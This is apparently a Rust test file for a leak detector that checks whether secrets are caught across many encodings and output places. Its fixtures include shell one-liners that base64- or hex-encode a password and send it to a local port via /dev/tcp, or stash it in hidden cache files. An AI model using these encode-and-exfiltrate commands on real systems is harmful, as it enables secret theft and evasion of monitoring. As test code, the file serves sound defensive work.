//! The proof of the search: programs that leak on purpose, in every encoding and in every place. What makes the encodings
//! here are the system's own tools, not the code that looks for them.

use std::collections::BTreeSet;
use std::process::Command;
use std::sync::Arc;

use crate::needles::{CUSTOMER_PASSWORD, ENCODINGS, LAST_NAME};
use crate::support::fault::{Answer, FaultServer};
use crate::watch::{Allowed, Leak, Place, Stage};

/// Shell commands that print the secret `$S` in an encoding.
const SPELLED: &[(&str, &str)] = &[
    ("raw", r#"printf %s "$S""#),
    ("core", r#"printf %s "$S" | tr -dc 'a-zA-Z0-9' | cut -c4-"#),
    ("base64", r#"printf %s "$S" | base64 -w0"#),
    ("base64", r#"printf 'x%s' "$S" | base64 -w0"#),
    ("base64", r#"printf 'me:%sy' "$S" | base64 -w0"#),
    ("URL-safe base64", r#"printf %s "$S" | base64 -w0 | tr '+/' '-_'"#),
    ("URL-safe base64", r#"printf 'x%s' "$S" | base64 -w0 | tr '+/' '-_'"#),
    ("URL-safe base64", r#"printf 'xy%sxyz' "$S" | base64 -w0 | tr '+/' '-_'"#),
    ("hex", r#"printf %s "$S" | od -An -v -tx1 | tr -d ' \n'"#),
    ("HEX", r#"printf %s "$S" | od -An -v -tx1 | tr -d ' \n' | tr a-f A-F"#),
    ("percent", r#"printf %s "$S" | od -An -v -tx1 | tr -d '\n' | tr ' a-f' '%A-F'"#),
    (
        "percent",
        r#"printf %s "$S" | sed 's/%/%25/g; s/"/%22/g; s/\\/%5C/g; s/+/%2B/g; s/ž/%C5%BE/g; s/ /+/g; s,/,%2F,g'"#,
    ),
    ("lower-case percent", r#"printf %s "$S" | od -An -v -tx1 | tr -d '\n' | tr ' ' '%'"#),
    ("JSON", r#"printf %s "$S" | sed 's/["\\]/\\&/g'"#),
    ("JSON", r#"printf %s "$S" | sed 's/["\\/]/\\&/g; s/ž/\\u017e/g'"#),
    ("JSON in \\u", r#"printf %s "$S" | iconv -t UTF-16BE | od -An -v -tx1 | tr -d ' \n' | sed 's/..../\\u&/g'"#),
    ("MD5", r#"printf %s "$S" | md5sum | cut -c1-32"#),
    ("MD5 in base64", r#"printf "$(printf %s "$S" | md5sum | cut -c1-32 | sed 's/../\\x&/g')" | base64 -w0"#),
    ("SHA-256", r#"printf %s "$S" | sha256sum | cut -c1-64 | tr a-f A-F"#),
    ("SHA-256 in base64", r#"printf "$(printf %s "$S" | sha256sum | cut -c1-64 | sed 's/../\\x&/g')" | base64 -w0"#),
];

/// Shell commands that leave `$L` in a place; `$1` is another server's port, `$2` the port of the server that is asked.
const PLACES: &[(&str, &str)] = &[
    ("stdout", r#"printf 'an answer with %s in it\n' "$L""#),
    ("stderr", r#"printf 'error: %s is wrong\n' "$L" >&2"#),
    ("a file", r#"mkdir -p .cache/deep && printf '{"x":"%s"}' "$L" > .cache/deep/er"#),
    ("a temporary file", r#"printf %s "$L" > "$TMPDIR/x""#),
    ("a file's name", r#"name=$(printf %s "$L" | tr / _); : > "$name""#),
    (
        "the command line",
        r#"exec bash -c 'exec 3<>"/dev/tcp/127.0.0.1/$1"; printf "GET / HTTP/1.1\r\n\r\n" >&3; head -1 <&3 >/dev/null' x "$2" "$L""#,
    ),
    (
        "another server",
        r#"exec 3<>"/dev/tcp/127.0.0.1/$1"; printf 'GET /%s HTTP/1.1\r\n\r\n' "$L" >&3; cat <&3 >/dev/null"#,
    ),
];

fn is_there(place: &Place) -> &'static str {
    match place {
        Place::Stdout => "stdout",
        Place::Stderr => "stderr",
        Place::File(name) if name.starts_with("tmp/") => "a temporary file",
        Place::File(_) => "a file",
        Place::FileName(_) => "a file's name",
        Place::CommandLine => "the command line",
        Place::Elsewhere => "another server",
    }
}

/// A program in the place of ours; what it leaks.
fn leaks(script: &str, leak: &str) -> Vec<Leak> {
    leaks_beside(script, leak, Allowed::default())
}

fn leaks_beside(script: &str, leak: &str, allowed: Allowed<'_>) -> Vec<Leak> {
    let mut stage = Stage::new();
    let looks = Arc::clone(&stage.looks);
    let server = FaultServer::start(move |_, _| {
        looks.look();
        Answer::Json(200, "{}".into())
    });
    let port = |address: &str| address.rsplit(':').next().unwrap_or_default().to_owned();
    let mut command = Command::new("bash");
    command
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("TMPDIR", stage.world.path("tmp"))
        .env("L", leak)
        .current_dir(stage.world.home.path())
        .args(["-c", script, "x", &port(&stage.elsewhere.address), &port(&server.origin)]);
    assert_eq!(stage.run(command, "", None).code, 0, "{script}");
    stage.leaks(allowed)
}

fn spelled(secret: &str, command: &str) -> String {
    let output = Command::new("bash").args(["-c", command]).env("S", secret).env("LC_ALL", "C.UTF-8").output();
    let output = output.expect("a shell");
    assert!(output.status.success(), "{command}: {}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8(output.stdout).expect("UTF-8").trim_end_matches('\n').to_owned()
}

#[test]
fn every_encoding_is_found_in_every_place() {
    for (encoding, command) in SPELLED {
        let leak = spelled(CUSTOMER_PASSWORD, command);
        for (place, script) in PLACES {
            // A file's name cannot hold every character.
            let whole = *place != "a file's name" || !leak.contains('/');
            let found = leaks(script, &leak);
            let here = |leak: &&Leak| is_there(&leak.place) == *place && leak.what == "the customer's password";
            let mut encodings = found.iter().filter(here).map(|leak| leak.encoding);
            let found_it = if whole { encodings.any(|known| known == *encoding) } else { encodings.next().is_some() };
            assert!(found_it || !whole && !leak.contains("cusTom"), "{encoding} in {place}: {found:?}");
            let others: Vec<&Leak> = found.iter().filter(|leak| is_there(&leak.place) != *place).collect();
            assert!(others.is_empty(), "{encoding} in {place}: {others:?}");
        }
    }
    let spelled: BTreeSet<&str> = SPELLED.iter().map(|(name, _)| *name).collect();
    let known: BTreeSet<&str> = ENCODINGS.iter().map(|(name, _)| *name).collect();
    assert_eq!(spelled, known, "every encoding is proved");
}

#[test]
fn personal_data_is_found_where_it_is_no_answer() {
    let found =
        |script: &str| leaks(script, LAST_NAME).iter().map(|leak| is_there(&leak.place)).collect::<BTreeSet<_>>();
    for (place, script) in PLACES {
        let expected = match *place {
            "stdout" | "the command line" => BTreeSet::new(),
            place => BTreeSet::from([place]),
        };
        assert_eq!(found(script), expected, "{place}");
    }
    for answer in ["curl -d '", "~ last_name  x → ", "+ last_name  "] {
        assert!(found(&format!(r#"printf "{answer}%s\n" "$L" >&2"#)).is_empty(), "{answer}");
    }
}

#[test]
fn what_is_allowed_is_allowed_in_one_place_and_one_spelling() {
    let name = &["the customer's password"][..];
    let kept =
        r#"mkdir -p .local/state/carecloud && printf '{"token":"%s"}' "$L" > .local/state/carecloud/credentials.json"#;
    let other =
        r#"mkdir -p .local/state/carecloud && printf '{"token":"%s"}' "$L" > .local/state/carecloud/credentials.json~"#;
    let plain = spelled(CUSTOMER_PASSWORD, r#"printf %s "$S" | sed 's/["\\]/\\&/g'"#);
    let packed = spelled(CUSTOMER_PASSWORD, r#"printf %s "$S" | base64 -w0"#);
    let keep = Allowed { kept: name, ..Allowed::default() };
    let show = Allowed { shown: name, ..Allowed::default() };
    for (script, text, allowed, found) in [
        (kept, &plain, keep, false),
        (kept, &plain, show, true),
        (kept, &plain, Allowed::default(), true),
        (kept, &packed, keep, true),
        (other, &plain, keep, true),
        (PLACES[0].1, &plain, show, false),
        (PLACES[0].1, &plain, keep, true),
        (PLACES[0].1, &packed, show, true),
        (PLACES[1].1, &plain, show, true),
        (PLACES[5].1, &plain, Allowed { typed: name, ..Allowed::default() }, false),
    ] {
        let leaks = leaks_beside(script, text, allowed);
        assert_eq!(!leaks.is_empty(), found, "{script} {text} {allowed:?}: {leaks:?}");
    }
}

#[test]
fn a_withheld_line_and_a_bare_connection_are_found() {
    let found = leaks(r#"echo "$L" >&2"#, "(a line was withheld: it held a secret)");
    assert!(matches!(found.as_slice(), [leak] if leak.what == "a withheld line"), "{found:?}");
    let found = leaks(r#"exec 3<>"/dev/tcp/127.0.0.1/$1""#, "");
    assert!(matches!(found.as_slice(), [leak] if leak.place == Place::Elsewhere), "{found:?}");
}

#[test]
fn a_program_that_leaks_nothing_is_left_alone() {
    let script = r#"echo '{"customer_id":"c1"}'; echo 'error: the server refused the values' >&2
echo '{"route":"customers"}' > log; : > "$TMPDIR/x"
exec bash -c 'exec 3<>"/dev/tcp/127.0.0.1/$1"; printf "GET / HTTP/1.1\r\nA: %s\r\n\r\n" "$L" >&3; head -1 <&3 >/dev/null' x "$2""#;
    let found = leaks(script, CUSTOMER_PASSWORD);
    assert!(found.is_empty(), "what goes to the server that is asked is no leak: {found:?}");
}
